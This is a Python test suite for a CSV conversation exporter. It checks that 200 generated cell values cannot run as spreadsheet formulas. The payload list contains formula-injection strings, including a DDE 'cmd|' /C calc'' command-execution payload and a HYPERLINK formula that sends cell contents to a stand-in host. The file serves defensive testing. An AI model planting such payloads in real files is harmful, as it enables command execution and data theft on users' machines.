"""Two hundred texts that spreadsheets would compute, exported, opened again, and computed by none."""

import csv
import io
import itertools
from datetime import UTC, datetime
from typing import Any

import pytest

from app.domain.answers import Citation
from app.domain.conversations import Role, Turn
from app.services.conversation.export_files import CsvFile
from app.services.conversation.inert import cell

STARTS = [
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "\0=",
    "＝",
    "＋",
    "－",
    "＠",
    "﹦",
    "﹢",
    "﹣",
    "﹫",
    "−",
    " =",
    "\u00a0@",
    "\ufeff=",
]
ENDS = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://e.example/?"&A1,"x")',
    '1+1";=2+2;"',
    '1+1","=2+2',
    "1\n=2+2\r\n=3+3",
    "1\t=2+2\t@SUM(1)",
    "SUM(1;2)|'x'!A1",
    "-+=@",
    '"=1',
]
PAYLOADS = [start + end for start, end in itertools.product(STARTS, ENDS)]
SEPARATED = ['x";=1+1;"', 'x","=1+1","', "x\t=1+1", "x\r\n=1+1\r\n@x", 'x"\n"=1+1', "x;=1+1", '";=1', "a|=1+1"]
COMPUTED = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")


def table(texts: list[str]) -> str:
    moment = datetime(2026, 1, 1, tzinfo=UTC)
    file = CsvFile()
    turns = [
        Turn(f"m{number}", Role.USER, text, moment, text, (Citation(1, text, "p", "t", "q"),))
        for number, text in enumerate(texts)
    ]
    return file.messages(turns, 0) + file.tail([])


def rows(text: str, separator: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=separator, strict=separator == ","))


def test_there_are_two_hundred_of_them() -> None:
    assert len(set(PAYLOADS)) == 200


def test_no_cell_is_a_formula_in_a_spreadsheet() -> None:
    openpyxl: Any = pytest.importorskip("openpyxl")
    read = rows(table([text for text in PAYLOADS if "\0" not in text]))
    book = openpyxl.Workbook()
    for row in read:
        # What an .xlsx file cannot hold at all is no formula in it.
        book.active.append([openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE.sub("", text) for text in row])
    kept = io.BytesIO()
    book.save(kept)
    cells = [each for row in openpyxl.load_workbook(kept).active.iter_rows() for each in row]
    assert len(cells) == 190 * 6
    assert [each.value for each in cells if each.data_type == "f"] == []
    book.active.append(["=1+1"])
    assert book.active.cell(book.active.max_row, 1).data_type == "f", "a formula would have been found"


def test_every_cell_comes_back_as_it_was_behind_a_quote() -> None:
    for text, row in zip(PAYLOADS, rows(table(PAYLOADS)), strict=True):
        assert [row[0], row[3], row[4]] == [f"'{text}"] * 3
        assert not any(each.startswith(COMPUTED) for each in row)


@pytest.mark.parametrize("separator", [";", "\t", "|", ","])
@pytest.mark.parametrize("text", PAYLOADS[::7] + SEPARATED)
def test_read_with_another_separator_what_was_said_is_one_cell(separator: str, text: str) -> None:
    moment = datetime(2026, 1, 1, tzinfo=UTC)
    turn = Turn("m", Role.USER, text, moment)
    read = rows(CsvFile().messages([turn], 0), separator)
    assert len(read) == 1
    assert read[0][0].startswith(cell(text))
    assert not any(each.startswith(COMPUTED) for each in read[0])


@pytest.mark.parametrize(
    "text", ["", "plain", "a=b", "1+1", "'=1", "x-y", "user@example.com", "ä", "🙂", "1. Open", "½"]
)
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert cell(text) == text


def test_lines_end_and_quotes_are_doubled_as_the_standard_says() -> None:
    text = table(['say "hello", twice\nplease'])
    assert text.startswith('"say ""hello"", twice\nplease","user","2026-01-01T00:00:00Z",')
    assert text.endswith('"m0"\r\n')
